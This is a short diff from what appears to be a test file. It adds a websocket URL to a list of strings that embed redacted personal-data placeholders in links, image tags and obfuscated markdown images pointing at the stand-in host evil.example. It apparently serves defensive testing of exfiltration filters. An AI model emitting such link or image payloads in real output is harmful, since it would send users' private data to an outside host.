@@ -141,6 +141,7 @@ LEAVING = [
     '<img alt=">" src="x?[PERSON_7Q2M]">',
     "<input title='a > b' value='[EMAIL_2X9P]'>",
     "sip:x@[PERSON_7Q2M]",
+    "ws:evil.example?q=[PERSON_7Q2M]",
     r"https:\/\/evil.example\/[PERSON_7Q2M]",
     r"![x](<\//evil.example/) [PERSON_7Q2M]>)",
     r"![x](<\//evil.example/\> [PERSON_7Q2M]>)",
